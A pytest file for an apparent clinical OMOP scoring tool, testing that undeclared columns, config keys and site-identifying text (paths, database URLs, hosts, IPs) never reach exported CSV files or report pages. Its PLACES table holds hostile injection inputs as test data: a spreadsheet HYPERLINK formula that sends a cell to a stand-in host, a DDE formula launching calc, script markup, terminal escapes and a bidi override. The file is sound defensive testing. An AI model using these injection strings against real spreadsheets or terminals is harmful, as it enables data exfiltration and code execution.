"""The list of what may leave: everything is declared, and what is not declared stays."""

import json
import re
from typing import Any

import pandas as pd
import pytest
from pydantic import BaseModel

from omop_scorer import terms
from omop_scorer.config.run_file import RunConfig
from omop_scorer.data_model import data_model
from omop_scorer.disclosure.leaving import (
    COLUMNS,
    KEYS,
    STAYING_COLUMNS,
    STAYING_KEYS,
    STAYING_STRATA,
)
from omop_scorer.disclosure.protect import protect_run
from omop_scorer.disclosure.site_texts import LEFT_OUT, SiteTexts
from omop_scorer.report.csv_files import FILE_NAMES, csv_files
from omop_scorer.report.page import render
from tests.support.made_up_run import CONFIG, people, run_of, tables_of

#: Of the row of a run, these are made from other columns.
MADE = {"completed_at": "recorded_at"}
PERSONS = {"person_id", "subject_id"}


def test_every_column_is_declared() -> None:
    run = {MADE.get(name, name) for name in COLUMNS["run"]}
    for table, columns in data_model().items():
        names = {column.column_name for column in columns} - {"run_id"}
        if PERSONS & names:
            assert table not in COLUMNS
            continue
        leaving = run if table.startswith("scoring_run") else set(COLUMNS.get(table, ()))
        undeclared = names - leaving - {*STAYING_COLUMNS.get(table, ())}
        assert not undeclared, f"say in disclosure/leaving.py whether {table}.{undeclared} leaves"
        if not table.startswith("scoring_run"):
            assert leaving <= names, (table, leaving - names)


def test_every_stratum_leaves_or_stays() -> None:
    leaving = set(terms.STRATUM_VALUES) - set(STAYING_STRATA)
    assert leaving == {
        *("all", "sex", "age_group", "women_50_and_over", "race", "prior_anti_tnf", "imputed"),
        *("first_biologic_year", "within_trial_range", "preference_group", "ruled_out_class"),
    }


def test_the_strata_that_stay_change_no_file() -> None:
    persons = people(400, 3)
    tables = tables_of(persons)
    more = {name: [*rows] for name, rows in tables.items()}
    for name in ("subgroup_summary", "preference_summary"):
        for stratum in STAYING_STRATA:
            renamed = {"stratum": stratum, "stratum_value": "LEAK"}
            more[name] += [{**row, **renamed} for row in tables[name] if row["stratum"] == "all"]
    files = everything(run_of(more))
    assert files == everything(run_of(tables))
    assert "LEAK" not in "".join(files.values())


def leaves_of(model: type[BaseModel], prefix: str = "") -> list[str]:
    keys = []
    for name, field in model.model_fields.items():
        key, kind = f"{prefix}{field.alias or name}", field.annotation
        if key in STAYING_KEYS:
            keys.append(key)
        elif isinstance(kind, type) and issubclass(kind, BaseModel):
            keys += leaves_of(kind, f"{key}.")
        else:
            keys.append(key)
    return keys


def test_every_key_of_the_run_file_is_declared() -> None:
    assert not KEYS & STAYING_KEYS
    found = set(leaves_of(RunConfig))
    undeclared = found - KEYS - STAYING_KEYS
    assert not undeclared, f"say in disclosure/leaving.py whether {undeclared} leaves"
    assert found == KEYS | STAYING_KEYS


def everything(run: Any, minimum: int = 5) -> dict[str, str]:
    """Return every file of a report."""
    data = protect_run(run, minimum)
    return {**csv_files(data), "page": render(data)}


def test_what_is_not_declared_stays() -> None:
    tables = tables_of(people(90, 3))
    tables["attrition"] = [{**row, "ward": "LEAK", "n_beds": 70707} for row in tables["attrition"]]
    tables["ward_count"] = [{"ward": "LEAK", "n_persons": 70707}]
    config = json.loads(CONFIG.to_json())
    config |= {"leak": "LEAK", "spark": {"settings": {"spark.leak": "LEAK"}, "scratch": "LEAK"}}
    config["cohort"] |= {"leak": "LEAK", "concept_ids": [201606]}
    config["audit"] |= {"leak": {"inner": "LEAK"}}
    config["covariates"]["crp"]["leak"] = 70707
    run = run_of(tables, config=config, site_note="LEAK", config_json=json.dumps(config))
    files = everything(run)
    for name, text in files.items():
        assert "LEAK" not in text, name
        assert "70707" not in text, name
        assert name in FILE_NAMES | {"page"}
    assert '""lookback_days"": 180' in files["run.csv"]
    assert "ward_count.csv" not in files


#: Texts that a site may have, each with a trace that must not leave.
PLACES = {
    "a path": ("data of /mnt/internal-nas/LEAK/cdm", "LEAK"),
    "a path of Windows": (r"C:\LEAK\cdm and \\LEAK\share", "LEAK"),
    "a path in a home": ("~/LEAK.duckdb ./LEAK ../LEAK", "LEAK"),
    "a URL": ("postgresql://LEAK:LEAK@LEAK:5432/LEAK?sslmode=LEAK", "LEAK"),
    "an address": ("mailto:LEAK@hospital.org or LEAK@hospital", "LEAK"),
    "a host": ("LEAK.hospital.internal, LEAK:5432", "LEAK"),
    "numbers of a host": ("10.20.30.40 10.20.30.40:5432 fe80::1 fe80:0:0:2", "10.20|fe80"),
    "a file": ("LEAK.csv (LEAK.parquet), 'LEAK.json' \u201cLEAK.db\u201d", "LEAK"),
    "a formula": ('=HYPERLINK("http://LEAK/?"&A1,"x")', "LEAK"),
    "another formula": ("+LEAK|'/c calc'!A0", "LEAK"),
    "a function": ("@SUM(LEAK)", "LEAK"),
    "markup": ("<script>LEAK</script> <b>", "LEAK|<script|<b>"),
    "escapes of a terminal": ("a\x1b[2JLEAK\x1b[31m b", "LEAK|\x1b"),
    "line ends": ("a\nLEAK b\rLEAK c\u2028LEAK", "LEAK|\r|\u2028"),
    "a bidirectional override": ("\u202eLEAK", "LEAK|\u202e"),
    "NUL": ("a\0LEAK", "LEAK|\0"),
    "a variable": ("$LEAK ${LEAK} %LEAK%/x", "LEAK"),
}


@pytest.mark.parametrize("kind", PLACES)
@pytest.mark.parametrize(
    "where", ["cdm_source_name", "cdm_version", "vocabulary_version", "message", "cdm_snapshot"]
)
def test_places_and_hostile_texts_stay(kind: str, where: str) -> None:
    text, traces = PLACES[kind]
    files = everything(run_of({}, **{where: text}))
    for name, content in files.items():
        assert not re.search(traces, content), name
    assert LEFT_OUT in files["run.csv"]
    assert LEFT_OUT in files["page"]


def test_texts_of_every_table_and_key_are_filtered() -> None:
    run = run_of(
        {
            "attrition": [
                {"step": 1, "reason": "LEAK.csv", "n_persons": 60, "n_excluded": 0},
            ],
            "run_cohort_definition": [
                {
                    "cohort_definition_id": 1,
                    "cohort_definition_name": "Preference /LEAK",
                    "cohort_definition_description": "=LEAK()",
                }
            ],
            "covariate_quality": [
                {"covariate": "input", "measure": "n_uncastable:/LEAK/x.value", "n": 60},
                {
                    "covariate": "input",
                    "measure": "n_uncastable:measurement.unit_concept_id",
                    "n": 7,
                },
            ],
            "concept_set_member": [
                {"concept_set": name, "concept_id": 1, "n_records": 70}
                for name in ("crp", "leak_of_a_file", "site_crp")
            ],
        },
        config={
            **json.loads(CONFIG.to_json()),
            "cohort": {"exclude_concept_sets": ["leak_of_a_file", "ulcerative_colitis"]},
        },
        message="concept sets with no records in the CDM: crp, leak_of_a_file",
    )
    files = everything(run)
    assert not [name for name, text in files.items() if "leak" in text.lower()]
    assert "CDM: crp, site_set_1" in files["run.csv"]
    assert '[""site_set_1"", ""ulcerative_colitis""]' in files["run.csv"]
    assert "n_uncastable:measurement.unit_concept_id,7" in files["covariate_quality.csv"]
    sets = [line.split(",")[0] for line in files["concept_set_member.csv"].splitlines()]
    assert sets == ["concept_set", "crp", "site_set_1", "site_crp"]


def test_hosts_and_users_of_the_run_file_are_no_words() -> None:
    config = {
        "cdm": {"url": "postgresql://nightjob@whale.hospital.org:5432/omop"},
        "results": {"url": "spark"},
        "postgresql": {"application_name": "swan"},
    }
    texts = SiteTexts([], config)
    assert (
        texts.text("the whale and the swan of nightjob")
        == f"the {LEFT_OUT} and the {LEFT_OUT} of {LEFT_OUT}"
    )


@pytest.mark.parametrize(
    "text",
    [
        "Optum\u00ae de-identified Electronic Health Record Dataset (2023Q1)",
        "Charit\u00e9 \u2013 Universit\u00e4tsmedizin Berlin, St. Jude's",
        "v5.0 31-AUG-23",
        "5.4.1; CDM v5.4",
        "\u6771\u4eac\u5927\u5b66\u75c5\u9662 \u0939\u093f\u0928\u094d\u0926\u0940",
        "TNF > (IL = INT)",
        "delta: death=3, person=12",
        "measurement.value_as_number: 3 value(s) could not be read as a number and are missing",
        "column measurement.operator_concept_id is missing: its values count as missing",
        "crp: no patient has a value, so there is no cohort median; the model card's constant 10.5 "
        "is imputed instead",
        "newest record is 331 days older than the as-of date; see cdm.maximum_rows (1.5%)",
        "a run as of 2026-01-31 02:30, set cohort.maximum_rows or give --as-of",
    ],
)
def test_plain_texts_leave_as_they_are(text: str) -> None:
    assert SiteTexts([]).text(text) == text.replace("cdm.maximum_rows", LEFT_OUT)


def test_a_long_name_is_cut() -> None:
    assert len(SiteTexts([]).name("x" * 10_000)) == 255


def test_the_results_keep_the_truth() -> None:
    run = run_of({}, cdm_source_name="=1+1 at /data", message="\x1b[31m")
    before = dict(run.run)
    protect_run(run, 5)
    assert dict(run.run) == before
    assert pd.isna(before["cdm_release_date"])
